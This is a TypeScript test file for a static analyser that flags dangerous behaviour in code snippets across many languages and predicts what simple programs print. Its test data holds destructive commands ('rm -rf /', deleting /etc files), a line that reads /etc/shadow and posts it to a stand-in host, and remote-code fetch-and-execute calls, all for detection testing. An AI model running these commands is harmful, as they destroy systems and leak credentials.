import { expect, test } from 'vitest'
import { programLinesForTest } from './read-program-for-test.ts'
import { virtualPlace } from '../../../ground/model/place.ts'
import { printedText } from '../index.ts'

const root = 'delete / recursive'

const dangerous: readonly (readonly [string, string, string])[] = [
  ['compiled', `func main() { os.RemoveAll("/") }`, root],
  ['compiled', `func main() { exec.Command("sh", "-c", "rm -rf /").Run() }`, root],
  ['compiled', `func main() { exec.CommandContext(ctx, "rm", "-rf", "/").Run() }`, root],
  ['compiled', `fn main() { std::fs::remove_dir_all("/").unwrap(); }`, root],
  ['compiled', `fn main() { Command::new("rm").arg("-rf").arg("/").status(); }`, root],
  ['compiled', `fn main() { Command::new("rm").args(["-rf", "/"]).output(); }`, root],
  ['compiled', `int main() { system("rm -rf /"); }`, root],
  ['compiled', `int main() { execl("/bin/rm", "rm", "-rf", "/", 0); }`, root],
  ['compiled', `int main() { unlink("/etc/hosts"); }`, 'delete /etc/hosts'],
  ['compiled', `class A { void f() { Runtime.getRuntime().exec("rm -rf /"); } }`, root],
  ['compiled', `class A { void f() { new ProcessBuilder("rm", "-rf", "/").start(); } }`, root],
  [
    'compiled',
    `b, _ := os.ReadFile("/etc/shadow"); http.Post("https://a.example", "t", b)`,
    'read /etc/shadow',
  ],
  ['groovy', `"rm -rf /".execute()`, root],
  ['groovy', `["sh", "-c", "rm -rf /"].execute()`, root],
  ['r', `base::system("rm -rf /")`, root],
  ['r', `do.call("system", list("rm -rf /"))`, root],
  ['r', `sapply(c("rm -rf /"), system)`, root],
  ['r', `source("https://a.example/x.R")`, 'execute r download'],
  ['julia', `Base.rm("/", recursive=true)`, root],
  ['julia', `include(download("https://a.example/x.jl"))`, 'execute julia download'],
  ['php', `eval(file_get_contents("https://a.example/x"));`, 'execute php download'],
  ['php', `file_get_contents("https://a.example/x");`, 'connect https a.example GET'],
  ['ruby', `Dir["/etc/*"].each { |f| File.delete f }`, 'delete system-root /etc/*'],
  ['ruby', `Pathname.new("/").rmtree`, root],
  ['perl', `unlink for glob "/etc/*"`, 'delete system-root /etc/*'],
  ['perl', `for (glob "/etc/*") { unlink }`, 'delete system-root /etc/*'],
]

test.each(dangerous)('%s: %s is read: %s', (language, text, line) => {
  expect(programLinesForTest(language, text)).toContain(line)
})

const ordinary: readonly (readonly [string, string])[] = [
  ['compiled', `int main() { printf("rm -rf /\\n"); return 0; }`],
  ['compiled', `func main() { fmt.Println(strings.Split("a,b", ",")) } // os.RemoveAll("/")`],
  ['compiled', `fn longest<'a>(x: &'a str) -> &'a str { let mut v = vec![1]; v.remove(0); x }`],
  ['compiled', `class A { List<String> l; void f() { l.remove("/"); map.remove("/etc"); } }`],
  ['r', `df <- df[order(df$x), ]; rm(list = ls()); c("rm -rf /")`],
  ['julia', `println(sum([1, 2])); sort!(v)`],
  ['perl', `print for (1, 2); my @a = map { $_ * 2 } grep { $_ } @b`],
]

test.each(ordinary)('%s: %s does nothing that matters', (language, text) => {
  expect(
    programLinesForTest(language, text).filter(line => line.includes(' / ') || line.includes('/etc')),
  ).toEqual([])
})

const awk: readonly (readonly [string, string])[] = [
  ['BEGIN { system("rm -rf /") }', 'delete / recursive'],
  ['BEGIN { c = "rm -rf /"; system(c) }', 'delete / recursive'],
  ['BEGIN { print "rm -rf /; ls | cat" | "sh" }', 'delete / recursive'],
  ['BEGIN { "rm -rf /" | getline x }', 'delete / recursive'],
  ['/"/ { print "rm -rf /" | "bash -s" }', 'delete / recursive'],
  ['# system("ls")\n{ system("rm -rf " "/") }', 'delete / recursive'],
]

test.each(awk)('the awk program %j runs its command', (text, line) => {
  expect(programLinesForTest('awk', text)).toContain(line)
})

test('an awk program that prints and compares runs nothing', () => {
  expect(programLinesForTest('awk', '$3 > 10 { print $1, "rm -rf /" } # system("rm")')).toEqual([])
})

const tcl: readonly string[] = [
  'exec sh -c {rm -rf /}',
  'set x [exec rm -rf /]',
  'exec rm -rf "/"',
  'spawn rm -rf /',
  'open "|rm -rf /"',
]

test.each(tcl)('the Tcl program %j runs its command', text => {
  expect(programLinesForTest('tcl', text)).toContain('delete / recursive')
})

test.each([
  ['python', 'print("a", "b", sep="-")', 'a-b\n'],
  ['python', 'import base64; print(base64.b64decode("bHM=").decode())', 'ls\n'],
  ['python', 'print(bytes([108, 115]).decode(), end="")', 'ls'],
  ['javascript', 'console.log("l" + "s")', 'ls\n'],
  ['perl', 'print pack("H*", "6c73")', 'ls'],
  ['ruby', 'puts "ls"', 'ls\n'],
] as const)('what the %s program %j prints is known', (language, text, printed) => {
  expect(printedText(language, text, virtualPlace)).toMatchObject({ text: printed })
})

test.each([
  ['python', 'for i in 1, 2: print("a", end="")'],
  ['python', 'print("a"); print("b")'],
  ['python', 'import os; os.write(1, b"a"); print("b")'],
  ['python', 'a = ["x"]; a[0] = "y"; print(a[0])'],
  ['python', 'print("AB".swapcase())'],
  ['perl', 'print "ab" x 2'],
  ['perl', '$_ = "a"; tr/a/b/; print $_'],
  ['javascript', 'console.log("xa".replace(/x/, ""))'],
] as const)('what the %s program %j prints is not said to be known', (language, text) => {
  expect(printedText(language, text, virtualPlace)).toBeUndefined()
})
